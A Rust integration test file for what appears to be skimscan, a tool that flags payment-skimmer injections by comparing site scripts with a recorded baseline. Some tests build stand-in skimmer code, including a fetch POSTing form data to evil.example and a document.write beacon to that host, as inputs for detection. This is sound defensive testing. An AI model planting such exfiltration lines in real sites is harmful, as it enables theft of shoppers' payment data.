//! The baseline life cycle over reports built as the scan pipeline builds them (issue 4):
//! create → rescan unchanged → skimmer appended → library upgrade → CSP removed → new
//! third-party script → removed script, and `update` keeping what people wrote.

mod baseline_support;

use baseline_support::*;
use skimscan::app::exit_code;
use skimscan::baseline::{self, Baseline, CodeStore};
use skimscan::finding::{FailOn, Finding, Severity, Verdict};
use skimscan::inventory::BaselineStatus;
use skimscan::report::Report;
use skimscan::rules::RuleSet;
use std::path::{Path, PathBuf};

const NOW: &str = "2026-11-24T10:00:00Z";

struct Recorded {
    _dir: tempfile::TempDir,
    path: PathBuf,
    baseline: Baseline,
    store: CodeStore,
}

/// `baseline create` as the CLI does it: record, save atomically, store the code, then a person
/// marks Stripe's unpinnable script volatile.
fn record_shop() -> Recorded {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("shop.json");
    let site = shop(0);
    let report = site.report();
    let mut b = baseline::create(&report, &site.sources, NOW);
    b.volatile.push("https://js.stripe.com/*".into());
    baseline::save_atomic(&path, &b).expect("save");
    let store = CodeStore::for_baseline(&path);
    store.save(&b, &report, &site.sources).expect("store code");
    let baseline = baseline::load(&path).expect("load what we saved");
    Recorded {
        _dir: dir,
        path,
        baseline,
        store,
    }
}

fn scan(rec: &Recorded, site: &Site) -> Report {
    let rules = RuleSet::load(false, &[]).expect("shipped rules");
    site.compared(&rec.baseline, Some(&rec.store), &rules)
}

fn by_rule<'a>(r: &'a Report, rule: &str) -> Vec<&'a Finding> {
    r.findings.iter().filter(|f| f.rule == rule).collect()
}

fn status(r: &Report, page: &str, id: &str) -> Option<BaselineStatus> {
    r.scripts
        .iter()
        .find(|s| s.page == page && s.id == id)
        .and_then(|s| s.baseline)
}

#[test]
fn rescan_of_an_unchanged_site_reports_nothing() {
    let rec = record_shop();
    // Fresh form keys, quote ids, timestamps, WooCommerce nonces and CSP nonce; Stripe's
    // script differs too but is volatile.
    let report = scan(&rec, &shop(1));
    assert!(report.findings.is_empty(), "{:#?}", report.findings);
    assert!(report.removed.is_empty());
    for s in &report.scripts {
        assert_eq!(s.baseline, Some(BaselineStatus::Unchanged), "{}", s.id);
    }
    assert_eq!(report.verdict, Verdict::Clean);
    assert_eq!(exit_code(&report, FailOn::default()), 0);
}

#[test]
fn per_request_tokens_do_not_change_the_recorded_baseline() {
    let a = baseline::create(&shop(0).report(), &shop(0).sources, NOW);
    let b = baseline::create(&shop(2).report(), &shop(2).sources, NOW);
    let ident = |b: &Baseline| {
        b.pages[CHECKOUT]
            .scripts
            .iter()
            .filter(|s| s.url.is_none())
            .map(|s| s.identity.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(ident(&a), ident(&b));
    assert_eq!(a.pages[CHECKOUT].headers, b.pages[CHECKOUT].headers);
    assert!(a.pages[CHECKOUT].headers["content-security-policy"].contains("'nonce-<volatile>'"));
}

#[test]
fn a_skimmer_appended_to_a_first_party_script_is_a_change_with_the_host() {
    let rec = record_shop();
    let site = with_script_text(
        shop(1),
        CHECKOUT_JS,
        &fixture("checkout-skimmed.js"),
        &["evil.example"],
    )
    .analysed(CHECKOUT, CHECKOUT_JS);
    let report = scan(&rec, &site);
    let exfil = by_rule(&report, "payment-data-exfiltration");
    assert_eq!(exfil.len(), 1, "{:#?}", report.findings);
    assert_eq!(exfil[0].severity, Severity::Critical);
    assert_eq!(exfil[0].hosts, vec!["evil.example".to_string()]);
    assert_eq!(exfil[0].script.as_deref(), Some(CHECKOUT_JS));

    assert_eq!(
        status(&report, CHECKOUT, CHECKOUT_JS),
        Some(BaselineStatus::Changed)
    );
    let changed = by_rule(&report, "baseline-changed-script");
    assert_eq!(changed.len(), 1, "{:#?}", report.findings);
    let f = changed[0];
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.hosts, vec!["evil.example".to_string()]);
    assert!(f.message.contains("evil.example"), "{}", f.message);
    let diff = f
        .diff
        .as_deref()
        .expect("old code is stored, so there is a diff");
    assert!(diff.starts_with("--- baseline\n+++ current\n"), "{diff}");
    assert!(
        diff.lines()
            .any(|l| l.starts_with('+') && l.contains("https://evil.example/c?d=")),
        "{diff}"
    );
    assert!(f.evidence.as_deref().is_some_and(|e| e.len() < 600));

    let dest = by_rule(&report, "baseline-new-destination");
    assert_eq!(dest.len(), 1);
    assert_eq!(dest[0].hosts, vec!["evil.example".to_string()]);
    assert_eq!(report.verdict, Verdict::Malicious);
    assert_eq!(exit_code(&report, FailOn::default()), 1);
}

#[test]
fn a_library_upgrade_is_a_readable_change_and_nothing_more() {
    let rec = record_shop();
    let site = with_script_text(shop(1), LIB_JS, &fixture("lib-1.1.min.js"), &[]);
    let report = scan(&rec, &site);
    let changed = by_rule(&report, "baseline-changed-script");
    assert_eq!(
        changed.len(),
        2,
        "home and checkout: {:#?}",
        report.findings
    );
    let on_checkout = changed
        .iter()
        .find(|f| f.page.as_deref() == Some(CHECKOUT))
        .expect("checkout");
    let on_home = changed
        .iter()
        .find(|f| f.page.as_deref() == Some(HOME))
        .expect("home");
    assert_eq!(on_checkout.severity, Severity::High);
    assert_eq!(on_home.severity, Severity::Medium);
    assert!(on_checkout.hosts.is_empty());
    let diff = on_checkout.diff.as_deref().unwrap_or_default();
    // Beautified: the added function is on its own lines, not one 500-character line.
    assert!(diff.lines().all(|l| l.len() < 200), "{diff}");
    assert!(
        diff.lines()
            .any(|l| l.starts_with('+') && l.contains("debounce")),
        "{diff}"
    );
    assert!(by_rule(&report, "baseline-new-destination").is_empty());
    assert!(
        report
            .findings
            .iter()
            .all(|f| f.severity < Severity::Critical)
    );
}

#[test]
fn a_removed_csp_is_a_weakening_and_a_changed_header_a_change() {
    let rec = record_shop();
    let mut site = shop(1);
    site.pages[1].headers.clear();
    let report = scan(&rec, &site);
    let weak = by_rule(&report, "baseline-csp-weakened");
    assert_eq!(weak.len(), 1, "{:#?}", report.findings);
    assert_eq!(weak[0].severity, Severity::High);
    assert!(weak[0].message.contains("removed"));

    let mut site = shop(1);
    site.pages[1].headers.insert(
        "content-security-policy".into(),
        "default-src 'self'; script-src 'self' 'nonce-x'; connect-src 'self' https://api.stripe.com; form-action 'self'".into(),
    );
    let report = scan(&rec, &site);
    assert!(
        by_rule(&report, "baseline-csp-weakened").is_empty(),
        "{:#?}",
        report.findings
    );
    assert_eq!(by_rule(&report, "baseline-header-changed").len(), 1);

    let mut site = shop(1);
    site.pages[1].headers.insert(
        "content-security-policy".into(),
        "default-src 'self'; script-src 'self' 'nonce-x' https://js.stripe.com; connect-src 'self' https://api.stripe.com https://evil.example; form-action 'self'".into(),
    );
    let report = scan(&rec, &site);
    let weak = by_rule(&report, "baseline-csp-weakened");
    assert!(
        weak[0]
            .message
            .contains("connect-src now allows https://evil.example"),
        "{}",
        weak[0].message
    );
}

#[test]
fn a_new_third_party_script_on_the_checkout_is_high() {
    let rec = record_shop();
    let site = shop(1)
        .external(
            CHECKOUT,
            "https://cdn.analytics.example/t.js",
            "track()",
            &[],
        )
        .external(HOME, "https://cdn.analytics.example/t.js", "track()", &[]);
    let report = scan(&rec, &site);
    let new = by_rule(&report, "baseline-new-script");
    assert_eq!(new.len(), 2, "{:#?}", report.findings);
    let checkout = new
        .iter()
        .find(|f| f.page.as_deref() == Some(CHECKOUT))
        .expect("checkout");
    assert_eq!(checkout.severity, Severity::High);
    assert_eq!(checkout.hosts, vec!["cdn.analytics.example".to_string()]);
    let home = new
        .iter()
        .find(|f| f.page.as_deref() == Some(HOME))
        .expect("home");
    assert_eq!(home.severity, Severity::Medium);
    assert_eq!(
        status(&report, CHECKOUT, "https://cdn.analytics.example/t.js"),
        Some(BaselineStatus::New)
    );
}

#[test]
fn a_script_reviewed_on_another_page_is_not_news_on_a_normal_page() {
    let rec = record_shop();
    let site = shop(1).external(HOME, CHECKOUT_JS, &fixture("checkout.js"), &[]);
    let report = scan(&rec, &site);
    assert_eq!(
        status(&report, HOME, CHECKOUT_JS),
        Some(BaselineStatus::New)
    );
    assert!(
        by_rule(&report, "baseline-new-script").is_empty(),
        "{:#?}",
        report.findings
    );
}

#[test]
fn an_inserted_inline_script_leaves_the_others_unchanged() {
    let rec = record_shop();
    let base = shop(1);
    // Rebuild the checkout with a new inline block first: every `#inline-N` shifts.
    let mut site = Site::default()
        .page(HOME, false, &[])
        .page(CHECKOUT, true, &[]);
    site.pages = base.pages.clone();
    let mut site = site.inline(CHECKOUT, "document.write('<img src=//evil.example/p>')");
    for s in base.scripts.iter().filter(|s| s.url.is_some()) {
        site.scripts.push(s.clone());
        site.sources
            .insert(s.id.clone(), base.sources[&s.id].clone());
    }
    for s in base.scripts.iter().filter(|s| s.url.is_none()) {
        site = site.inline(CHECKOUT, &base.sources[&s.id].text);
    }
    let report = scan(&rec, &site);
    assert_eq!(
        status(&report, CHECKOUT, &format!("{CHECKOUT}#inline-1")),
        Some(BaselineStatus::New)
    );
    assert_eq!(
        status(&report, CHECKOUT, &format!("{CHECKOUT}#inline-2")),
        Some(BaselineStatus::Unchanged)
    );
    assert_eq!(
        status(&report, CHECKOUT, &format!("{CHECKOUT}#inline-3")),
        Some(BaselineStatus::Unchanged)
    );
    assert!(
        by_rule(&report, "baseline-changed-script").is_empty(),
        "{:#?}",
        report.findings
    );
    assert_eq!(by_rule(&report, "baseline-new-script").len(), 1);
}

#[test]
fn code_appended_to_an_inline_script_is_a_change_of_that_script() {
    let rec = record_shop();
    let id = format!("{CHECKOUT}#inline-1");
    let base = shop(1);
    let text = format!(
        "{}\nfetch('https://evil.example/x',{{method:'POST',body:FORM_KEY}});\n",
        base.sources[&id].text
    );
    let site = with_script_text(base, &id, &text, &["evil.example"]);
    let report = scan(&rec, &site);
    assert_eq!(
        status(&report, CHECKOUT, &id),
        Some(BaselineStatus::Changed)
    );
    let f = by_rule(&report, "baseline-changed-script");
    assert_eq!(f.len(), 1, "{:#?}", report.findings);
    assert!(
        f[0].diff
            .as_deref()
            .unwrap_or_default()
            .contains("+fetch('https://evil.example/x'")
    );
    // The block starts on page line 11; the appended statement is its 5th line (after a blank one).
    assert_eq!(f[0].location.map(|l| l.line), Some(15));
    // Lines that differ only in their per-request tokens are context, not changes.
    let diff = f[0].diff.as_deref().unwrap_or_default();
    assert!(
        !diff
            .lines()
            .any(|l| l.starts_with('-') && !l.starts_with("---")),
        "{diff}"
    );
    assert!(diff.contains(" window.checkoutConfig"), "{diff}");
}

#[test]
fn a_removed_script_is_listed_and_reported_as_info() {
    let rec = record_shop();
    let mut site = shop(1);
    site.scripts
        .retain(|s| !(s.page == CHECKOUT && s.id == CHECKOUT_JS));
    let report = scan(&rec, &site);
    assert_eq!(report.removed.len(), 1);
    assert_eq!(report.removed[0].url.as_deref(), Some(CHECKOUT_JS));
    assert_eq!(report.removed[0].page, CHECKOUT);
    let f = by_rule(&report, "baseline-removed-script");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].severity, Severity::Info);
    assert_eq!(exit_code(&report, FailOn::default()), 0);
}

#[test]
fn without_the_code_store_a_change_is_still_reported() {
    let rec = record_shop();
    let site = with_script_text(shop(1), CHECKOUT_JS, &fixture("checkout-skimmed.js"), &[]);
    let rules = RuleSet::load(false, &[]).expect("rules");
    let report = site.compared(&rec.baseline, None, &rules);
    let f = by_rule(&report, "baseline-changed-script");
    assert_eq!(f.len(), 1);
    assert!(f[0].diff.is_none());
    assert!(
        f[0].message.contains("Old code not stored"),
        "{}",
        f[0].message
    );
}

#[test]
fn baseline_rules_not_loaded_stay_silent() {
    let rec = record_shop();
    let site = with_script_text(
        shop(1),
        CHECKOUT_JS,
        &fixture("checkout-skimmed.js"),
        &["evil.example"],
    );
    let report = site.compared(&rec.baseline, Some(&rec.store), &RuleSet::default());
    assert!(report.findings.is_empty());
    assert_eq!(
        status(&report, CHECKOUT, CHECKOUT_JS),
        Some(BaselineStatus::Changed)
    );
}

#[test]
fn update_keeps_justifications_and_prints_what_changed() {
    let rec = record_shop();
    let mut b = rec.baseline.clone();
    for s in b
        .pages
        .get_mut(CHECKOUT)
        .expect("checkout")
        .scripts
        .iter_mut()
    {
        s.justification = format!("reviewed: {}", s.identity);
        s.owner = "payments-team@shop.example".into();
    }
    b.authorised_hosts.push("*.stripe.com".into());
    let site = with_script_text(shop(2), LIB_JS, &fixture("lib-1.1.min.js"), &[]).external(
        CHECKOUT,
        "https://cdn.analytics.example/t.js",
        "track()",
        &[],
    );
    let (nb, changes) = baseline::record::update_with_code(
        &b,
        &site.report(),
        &site.sources,
        Some(&rec.store),
        "2026-12-01T00:00:00Z",
    );
    let lines: Vec<String> = changes.iter().map(ToString::to_string).collect();
    assert!(
        lines.contains(&format!("~ changed script {LIB_JS} on {CHECKOUT}")),
        "{lines:#?}"
    );
    assert!(
        lines.contains(&format!("~ changed script {LIB_JS} on {HOME}")),
        "{lines:#?}"
    );
    assert!(
        lines.contains(&format!(
            "+ new script https://cdn.analytics.example/t.js on {CHECKOUT}"
        )),
        "{lines:#?}"
    );
    // Fresh tokens in the inline scripts and the CSP nonce are not changes.
    assert_eq!(lines.len(), 3, "{lines:#?}");

    assert_eq!(nb.created_at, b.created_at);
    assert_eq!(nb.updated_at, "2026-12-01T00:00:00Z");
    assert_eq!(nb.authorised_hosts, vec!["*.stripe.com".to_string()]);
    assert_eq!(nb.volatile, b.volatile);
    let checkout = &nb.pages[CHECKOUT];
    for s in &checkout.scripts {
        if s.url.as_deref() == Some("https://cdn.analytics.example/t.js") {
            assert!(s.justification.is_empty());
            assert_eq!(s.first_seen, "2026-12-01T00:00:00Z");
        } else {
            assert!(s.justification.starts_with("reviewed: "), "{s:?}");
            assert_eq!(s.owner, "payments-team@shop.example");
            assert_eq!(s.first_seen, NOW);
        }
    }
    let stripe = checkout
        .scripts
        .iter()
        .find(|s| s.volatile)
        .expect("volatile entry");
    assert_eq!(stripe.identity, "volatile:https://js.stripe.com/*");
    assert_eq!(stripe.sha256, None, "volatile scripts are not hashed");
}

#[test]
fn update_keeps_pages_and_hashes_the_scan_could_not_see() {
    let rec = record_shop();
    let mut site = shop(1);
    // The home page did not load, and checkout.js could not be fetched.
    site.pages.retain(|p| p.url != HOME);
    site.scripts.retain(|s| s.page != HOME);
    for s in site.scripts.iter_mut().filter(|s| s.id == CHECKOUT_JS) {
        s.sha256 = None;
        s.sri = None;
        s.size = None;
    }
    let (nb, changes) = baseline::update(
        &rec.baseline,
        &site.report(),
        &site.sources,
        "2026-12-01T00:00:00Z",
    );
    assert_eq!(nb.pages[HOME], rec.baseline.pages[HOME]);
    let old = rec.baseline.pages[CHECKOUT]
        .scripts
        .iter()
        .find(|s| s.identity == CHECKOUT_JS)
        .cloned();
    let new = nb.pages[CHECKOUT]
        .scripts
        .iter()
        .find(|s| s.identity == CHECKOUT_JS)
        .cloned();
    assert_eq!(old.and_then(|s| s.sha256), new.and_then(|s| s.sha256));
    let lines: Vec<String> = changes.iter().map(ToString::to_string).collect();
    assert_eq!(
        lines,
        vec![format!("= page {HOME} was not scanned; kept as recorded")]
    );
}

#[test]
fn saving_is_deterministic_and_ends_with_a_newline() {
    let rec = record_shop();
    let first = std::fs::read_to_string(&rec.path).expect("read");
    assert!(first.ends_with("}\n"));
    baseline::save_atomic(&rec.path, &rec.baseline).expect("save again");
    assert_eq!(std::fs::read_to_string(&rec.path).expect("read"), first);
    // No temporary files are left behind.
    let names: Vec<_> = std::fs::read_dir(rec.path.parent().unwrap_or(Path::new(".")))
        .expect("dir")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    // The code store holds each hashed script once, by hash.
    let stored = std::fs::read_dir(rec.store.dir()).expect("store").count();
    let hashed: std::collections::BTreeSet<_> = rec
        .baseline
        .scripts()
        .filter_map(|(_, s)| s.sha256.clone())
        .collect();
    assert_eq!(stored, hashed.len());
}

#[test]
fn corrupt_unknown_version_and_misspelt_files_are_refused_and_untouched() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases = [
        (
            "corrupt.json",
            "{\n  \"schema_version\": 1,\n  \"site\": \"shop.example\",\n  \"pages\": {\n",
        ),
        ("future.json", "{\"schema_version\": 2, \"site\": \"x\"}\n"),
        (
            "typo.json",
            "{\n  \"schema_version\": 1,\n  \"site\": \"s\",\n  \"created_at\": \"\",\n  \"updated_at\": \"\",\n  \"pages\": {},\n  \"autorised_hosts\": []\n}\n",
        ),
        (
            "badhost.json",
            "{\"schema_version\": 1, \"site\": \"s\", \"created_at\": \"\", \"updated_at\": \"\", \"pages\": {}, \"authorised_hosts\": [\"a*b\"]}\n",
        ),
    ];
    for (name, text) in cases {
        let p = dir.path().join(name);
        std::fs::write(&p, text).expect("write");
        let err = baseline::load(&p).expect_err(name);
        let msg = err.to_string();
        assert!(msg.contains(name), "{msg}");
        assert_eq!(
            std::fs::read_to_string(&p).expect("read"),
            text,
            "{name} untouched"
        );
        match name {
            "future.json" => assert!(matches!(
                err,
                baseline::BaselineError::UnknownVersion { .. }
            )),
            "typo.json" => {
                assert!(msg.contains(":7:"), "{msg}");
                assert!(msg.contains("autorised_hosts"), "{msg}");
            }
            "corrupt.json" => assert!(matches!(err, baseline::BaselineError::Corrupt { .. })),
            _ => assert!(matches!(err, baseline::BaselineError::Invalid { .. })),
        }
    }
}

#[test]
fn the_documented_example_baseline_loads_and_is_canonical() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("baselines/demo-shop.json");
    let b = baseline::load(&path).expect("the example in baselines/ is valid");
    assert_eq!(
        baseline::store::to_json(&b),
        std::fs::read_to_string(&path).expect("read"),
        "the example is written exactly as skimscan writes baselines"
    );
    let store = CodeStore::for_baseline(&path);
    for (_, s) in b.scripts() {
        if let Some(h) = &s.sha256 {
            let code = store.get(h).expect("its code is stored");
            assert_eq!(&skimscan::inventory::sha256_hex(code.as_bytes()), h);
        }
    }
}

#[test]
fn create_file_refuses_to_overwrite_and_update_file_leaves_an_unchanged_site_alone() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("shop.json");
    let site = shop(0);
    baseline::create_file(&path, false, &site.report(), &site.sources, NOW).expect("create");
    let written = std::fs::read_to_string(&path).expect("read");
    let err = baseline::create_file(&path, false, &site.report(), &site.sources, NOW)
        .expect_err("an existing baseline is not overwritten");
    assert!(err.to_string().contains("--force"), "{err}");
    assert_eq!(std::fs::read_to_string(&path).expect("read"), written);

    // A person marks Stripe volatile; the next update turns its entry into the pattern.
    let mut b = baseline::load(&path).expect("load");
    b.volatile.push("https://js.stripe.com/*".into());
    baseline::save_atomic(&path, &b).expect("save");
    baseline::update_file(&path, &b, &site.report(), &site.sources, NOW).expect("update");
    // From then on, a rescan with fresh tokens changes nothing on disk.
    let before = std::fs::read_to_string(&path).expect("read");
    let site = shop(1);
    let old = baseline::load(&path).expect("load");
    let (_, changes) = baseline::update_file(
        &path,
        &old,
        &site.report(),
        &site.sources,
        "2026-12-01T00:00:00Z",
    )
    .expect("update");
    assert!(changes.is_empty(), "{changes:?}");
    assert_eq!(std::fs::read_to_string(&path).expect("read"), before);

    // A real change is written, with its code stored for the next diff.
    let site = with_script_text(shop(1), LIB_JS, &fixture("lib-1.1.min.js"), &[]);
    let (nb, changes) = baseline::update_file(
        &path,
        &old,
        &site.report(),
        &site.sources,
        "2026-12-01T00:00:00Z",
    )
    .expect("update");
    assert_eq!(changes.len(), 2, "{changes:?}");
    assert_eq!(nb.updated_at, "2026-12-01T00:00:00Z");
    let new_hash = skimscan::inventory::sha256_hex(fixture("lib-1.1.min.js").as_bytes());
    assert!(CodeStore::for_baseline(&path).get(&new_hash).is_some());
    assert_eq!(baseline::load(&path).expect("reload"), nb);
}

#[test]
fn update_rescans_the_recorded_pages_or_the_site_folder() {
    let b = baseline::create(&shop(0).report(), &shop(0).sources, NOW);
    assert_eq!(
        baseline::default_targets(&b),
        vec![HOME.to_string(), CHECKOUT.to_string()]
    );
    let demo =
        baseline::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("baselines/demo-shop.json"))
            .expect("demo");
    assert_eq!(
        baseline::default_targets(&demo),
        vec!["demo/shop".to_string()]
    );
}

#[test]
fn a_recorded_payment_page_stays_one_when_its_fields_disappear() {
    let rec = record_shop();
    // The card fields moved somewhere the scanner does not see (an injected iframe, say).
    let mut site = shop(1).external(
        CHECKOUT,
        "https://cdn.analytics.example/t.js",
        "track()",
        &[],
    );
    site.pages[1].payment_form = false;
    let report = scan(&rec, &site);
    let new = by_rule(&report, "baseline-new-script");
    assert_eq!(new.len(), 1);
    assert_eq!(new[0].severity, Severity::High);
}

#[test]
fn the_built_site_and_staging_match_a_baseline_recorded_from_production() {
    let rec = record_shop();
    for (form, name) in [
        ("built site", &as_built_site as &dyn Fn(&str) -> String),
        ("staging", &as_staging),
    ] {
        let report = scan(&rec, &rebase(&shop(1), name));
        assert!(report.findings.is_empty(), "{form}: {:#?}", report.findings);
        assert!(report.removed.is_empty(), "{form}: {:#?}", report.removed);
        for s in &report.scripts {
            assert_eq!(
                s.baseline,
                Some(BaselineStatus::Unchanged),
                "{form}: {}",
                s.id
            );
        }
        // A real change still shows, located in the renamed file.
        let site = with_script_text(
            rebase(&shop(1), name),
            &name(CHECKOUT_JS),
            &fixture("checkout-skimmed.js"),
            &[],
        );
        let report = scan(&rec, &site);
        let changed = by_rule(&report, "baseline-changed-script");
        assert_eq!(changed.len(), 1, "{form}: {:#?}", report.findings);
        assert_eq!(
            changed[0].script.as_deref(),
            Some(name(CHECKOUT_JS).as_str())
        );
        assert!(changed[0].diff.is_some(), "{form}: old code found by hash");
    }
}

#[test]
fn a_changed_block_that_is_not_javascript_is_low() {
    let rec = record_shop();
    let id = format!("{CHECKOUT}#inline-2");
    let mut site = with_script_text(
        shop(1),
        &id,
        "{\"@type\": \"Store\", \"name\": \"Renamed\"}",
        &[],
    );
    // Recorded as JavaScript, now a JSON-LD block with other content at the same place.
    for s in site.scripts.iter_mut().filter(|s| s.id == id) {
        s.analysed = false;
        s.script_type = Some("application/ld+json".into());
    }
    let report = scan(&rec, &site);
    let f: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.script.as_deref() == Some(id.as_str()))
        .collect();
    // Too different to pair with the old block: a new block (and the old one removed).
    assert_eq!(f.len(), 2, "{:#?}", report.findings);
    for x in f {
        assert!(x.severity <= Severity::Low, "{x:#?}");
    }
}
